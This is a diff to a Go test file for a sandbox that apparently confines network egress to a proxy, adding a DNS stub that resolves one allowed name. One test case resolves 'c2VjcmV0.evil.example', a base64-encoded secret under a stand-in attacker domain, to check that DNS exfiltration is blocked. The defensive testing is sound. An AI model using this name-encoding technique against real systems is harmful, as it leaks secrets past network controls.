@@ -15,6 +15,7 @@ import (
 	"syscall"
 	"testing"
 
+	"golang.org/x/net/dns/dnsmessage"
 	"golang.org/x/sys/unix"
 
 	"github.com/bulkhead-dev/bulkhead/internal/sandbox"
@@ -391,14 +392,16 @@ func TestProfileRefusals(t *testing.T) {
 // With egress through the proxy, the only connection a sandbox can open
 // is to the proxy inside it, which whoever started the sandbox serves:
 // here a proxy that records the target and refuses. Every other
-// destination stays refused.
+// destination stays refused. Names resolve only through the DNS stub
+// beside it, served the same way: here one that knows one name.
 func TestEgressOnlyThroughTheProxy(t *testing.T) {
 	f := newFixture(t)
 	p := f.profile()
 	p.Egress = sandbox.EgressProxy
-	asked := make(chan string, 4)
+	asked := make(chan string, 16)
 	serve := func(c *sandbox.Confined) {
-		c.ServeEgress = func(l net.Listener) {
+		c.ServeEgress = func(l net.Listener, dns net.PacketConn) {
+			go answerOneName(dns, "api.example.test.", [4]byte{192, 0, 2, 7}, asked)
 			for {
 				conn, err := l.Accept()
 				if err != nil {
@@ -422,6 +425,60 @@ func TestEgressOnlyThroughTheProxy(t *testing.T) {
 		out, _, err := f.runWith(t, p, serve, "connect", addr)
 		if err == nil || !strings.Contains(out, "blocked:") {
 			t.Fatalf("connect %s beside the proxy: %s", addr, out)
+		}
+	}
+	out, _, err := f.runWith(t, p, serve, "resolve", "api.example.test")
+	if err != nil || !strings.Contains(out, "[192.0.2.7]") {
+		t.Fatalf("an allowed name through the stub: %v: %s", err, out)
+	}
+	// Exfiltration through a name: the question reaches the stub, whose
+	// server refuses it, and nothing else.
+	out, _, err = f.runWith(t, p, serve, "resolve", "c2VjcmV0.evil.example")
+	if err == nil || !strings.Contains(out, "blocked:") {
+		t.Fatalf("an unknown name resolved: %s", out)
+	}
+	seen := map[string]bool{}
+	for len(asked) > 0 {
+		seen[<-asked] = true
+	}
+	if !seen["dns A api.example.test."] || !seen["dns A c2VjcmV0.evil.example."] {
+		t.Fatalf("the stub was not asked: %v", seen)
+	}
+}
+
+// answerOneName answers A questions for name with addr, and every other
+// question with NXDOMAIN, telling asked what it was asked.
+func answerOneName(pc net.PacketConn, name string, addr [4]byte, asked chan<- string) {
+	buf := make([]byte, 512)
+	for {
+		n, from, err := pc.ReadFrom(buf)
+		if err != nil {
+			return
+		}
+		var p dnsmessage.Parser
+		h, err := p.Start(buf[:n])
+		if err != nil {
+			continue
+		}
+		q, err := p.Question()
+		if err != nil {
+			continue
+		}
+		if q.Type == dnsmessage.TypeA {
+			asked <- "dns A " + q.Name.String()
+		}
+		b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, RecursionAvailable: true, RCode: dnsmessage.RCodeNameError})
+		if q.Name.String() == name {
+			b = dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, RecursionAvailable: true})
+		}
+		_ = b.StartQuestions()
+		_ = b.Question(q)
+		_ = b.StartAnswers()
+		if q.Name.String() == name && q.Type == dnsmessage.TypeA {
+			_ = b.AResource(dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 30}, dnsmessage.AResource{A: addr})
+		}
+		if msg, err := b.Finish(); err == nil {
+			_, _ = pc.WriteTo(msg, from)
 		}
 	}
 }
